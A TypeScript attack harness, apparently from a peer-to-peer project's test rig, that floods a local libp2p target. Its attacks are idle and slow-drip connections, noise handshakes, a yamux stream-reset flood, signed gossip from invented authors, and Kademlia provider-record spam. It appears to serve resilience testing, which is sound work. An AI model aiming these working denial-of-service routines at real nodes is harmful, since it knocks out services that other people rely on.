/**
 * `fork` it with the name of an attack: does it to `--target` until it is killed, and tells when it is under
 * way. What it knows of the victim is what anybody can know: the address, and the name of the root in the
 * DHT.
 */

import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { parseArgs } from 'node:util'
import { yamux } from '@chainsafe/libp2p-yamux'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { identify } from '@libp2p/identify'
import type { MessageStream } from '@libp2p/interface'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { ping } from '@libp2p/ping'
import { tcp } from '@libp2p/tcp'
import { tls } from '@libp2p/tls'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p, type Libp2p } from 'libp2p'
import { topicOf } from '../../src/network/discovery/gossip.ts'
import { GossipSeal } from '../../src/network/discovery/gossip-seal.ts'
import { concatBytes, decodeHex, encodeUtf8 } from '../../src/util/bytes.ts'
import { encodeGossip } from '../../src/wire/gossip.ts'
import { ATTACKER_ADDRESS } from './rig.ts'

const { positionals, values } = parseArgs({
  allowPositionals: true,
  options: {
    target: { type: 'string', default: '' },
    root: { type: 'string', default: '' },
    count: { type: 'string', default: '128' },
    sealed: { type: 'string', default: 'no' },
    from: { type: 'string', default: ATTACKER_ADDRESS }
  }
})
const { target, from } = values
const count = Number(values.count)
const port = Number(multiaddr(target).getComponents()[1]?.value)

function dial(): Promise<Socket> {
  const { promise, resolve } = Promise.withResolvers<Socket>()
  const socket = connect({ port, host: '127.0.0.1', localAddress: from }, () => resolve(socket))
  socket.on('error', () => resolve(socket))
  return promise
}

/** Connections that say nothing, opened again as soon as they are closed. */
async function silent(): Promise<void> {
  const keep = async (): Promise<void> => {
    const socket = await dial()
    socket.on('data', () => {})
    socket.on('close', () => setTimeout(keep, 20))
    if (socket.destroyed) setTimeout(keep, 20)
  }
  await Promise.all(Array.from({ length: count }, keep))
}

/** Connections that begin to negotiate and then send a byte now and then. */
async function dripping(): Promise<void> {
  const keep = async (): Promise<void> => {
    const socket = await dial()
    const timer = setInterval(() => socket.write(Uint8Array.of(0x13)), 1000)
    socket.on('data', () => {})
    socket.write(Uint8Array.of(0x13))
    socket.on('close', () => {
      clearInterval(timer)
      setTimeout(keep, 20)
    })
  }
  await Promise.all(Array.from({ length: count }, keep))
}

/** Connections that send noise where a handshake should be, as many as get through. */
async function noise(): Promise<void> {
  const again = async (): Promise<void> => {
    const socket = await dial()
    socket.on('data', () => {})
    socket.on('close', () => setImmediate(again))
    socket.end(randomBytes(200))
  }
  await Promise.all(Array.from({ length: count }, again))
}

/** A stock libp2p node that dials from the attacker's address. */
async function stockNode(): Promise<Libp2p> {
  return createLibp2p({
    transports: [tcp({ dialOpts: { localAddress: from } as object })],
    connectionEncrypters: [tls()],
    streamMuxers: [yamux()],
    connectionGater: { denyDialMultiaddr: () => false },
    services: { identify: identify(), ping: ping() }
  })
}

function drained(stream: MessageStream): Promise<void> {
  return new Promise(resolve => {
    stream.addEventListener('drain', () => resolve(), { once: true })
    stream.addEventListener('close', () => resolve(), { once: true })
  })
}

/**
 * Streams that are opened and reset, as fast as one connection takes them; another connection when it is
 * closed.
 */
async function reset(): Promise<void> {
  const node = await stockNode()
  const flood = async (): Promise<void> => {
    const connection = await node.dial(multiaddr(target), { force: true })
    const { maConn } = (connection as unknown as { muxer: { maConn: MessageStream } }).muxer
    let id = 1001
    while (maConn.status === 'open') {
      const frames = new Uint8Array(12 * 2000)
      const view = new DataView(frames.buffer)
      for (let i = 0; i < 2000; i++, id += 2) {
        view.setUint8(i * 12 + 1, 1)
        view.setUint16(i * 12 + 2, i % 2 === 0 ? 1 : 8)
        if (i % 2 === 1) id -= 2
        view.setUint32(i * 12 + 4, id)
      }
      if (!maConn.send(frames)) await drained(maConn)
      else await new Promise(setImmediate)
    }
  }
  const again = (): void =>
    void flood()
      .catch(() => {})
      .finally(() => setTimeout(again, 20))
  again()
}

function field(number: number, bytes: Uint8Array): Uint8Array {
  const length: number[] = []
  for (let rest = bytes.byteLength; ; rest >>>= 7) {
    length.push(rest < 0x80 ? rest : (rest & 0x7f) | 0x80)
    if (rest < 0x80) break
  }
  return concatBytes([Uint8Array.of((number << 3) | 2, ...length), bytes])
}

/**
 * Gossip of `count` invented authors, all signed, within half a second; sealed as by one who knows the root
 * where `--sealed` says so.
 */
async function gossip(): Promise<void> {
  const root = decodeHex(values.root) as Uint8Array
  const topic = topicOf(root)
  const seal = new GossipSeal(root, topic)
  const messages: Uint8Array[] = []
  for (let i = 0; i < count; i++) {
    const key = await generateKeyPair('Ed25519')
    const author = peerIdFromPrivateKey(key)
    const payload = encodeGossip({
      peer: author.toString(),
      addresses: ['/ip4/127.0.0.1/tcp/9'],
      pieceCount: 80,
      bits: new Uint8Array(10)
    })
    const unsigned = concatBytes([
      field(1, author.toMultihash().bytes),
      field(2, values.sealed === 'yes' ? seal.seal(payload, author.toString()) : payload),
      field(3, randomBytes(8)),
      field(4, encodeUtf8(topic))
    ])
    const signature = await key.sign(concatBytes([encodeUtf8('libp2p-pubsub:'), unsigned]))
    messages.push(field(2, concatBytes([unsigned, field(5, signature)])))
  }
  const node = await stockNode()
  const connection = await node.dial(multiaddr(target))
  const stream = await connection.newStream('/meshsub/1.1.0')
  const say = (rpc: Uint8Array): void => {
    // Length-prefixed, as a field without its tag.
    stream.send(field(1, rpc).subarray(1))
  }
  say(field(1, concatBytes([Uint8Array.of(8, 1), field(2, encodeUtf8(topic))])))
  process.on('message', async () => {
    for (let i = 0; i < messages.length; i += 50) {
      say(concatBytes(messages.slice(i, i + 50)))
      await new Promise(setImmediate)
    }
    process.send?.('said')
  })
}

/** Provider records of keys that nobody asks for, as many as one stream takes. */
async function records(): Promise<void> {
  const node = await stockNode()
  const connection = await node.dial(multiaddr(target))
  const self = node.peerId.toMultihash().bytes
  const where = multiaddr('/ip4/127.0.0.1/tcp/9').bytes
  const again = async (): Promise<void> => {
    const stream = await connection.newStream('/swarm/kad/1.0.0')
    stream.addEventListener('message', () => {})
    while (stream.status === 'open' && stream.writeStatus === 'writable') {
      const batch: Uint8Array[] = []
      for (let i = 0; i < 500; i++) {
        const key = concatBytes([Uint8Array.of(1, 0x55, 0x12, 32), randomBytes(32)])
        const provider = field(9, concatBytes([field(1, self), field(2, where)]))
        batch.push(field(1, concatBytes([Uint8Array.of(8, 2), field(2, key), provider])).subarray(1))
      }
      if (!stream.send(concatBytes(batch))) await drained(stream)
      else await new Promise(setImmediate)
    }
  }
  const forever = (): void =>
    void again()
      .catch(() => {})
      .finally(() => setTimeout(forever, 20))
  forever()
}

const ATTACKS: Record<string, () => Promise<void>> = { silent, dripping, noise, reset, gossip, records }
const attack = ATTACKS[positionals[0] ?? '']
if (attack === undefined) throw new RangeError(`no attack ${positionals[0]}`)
await attack()
process.send?.('under way')
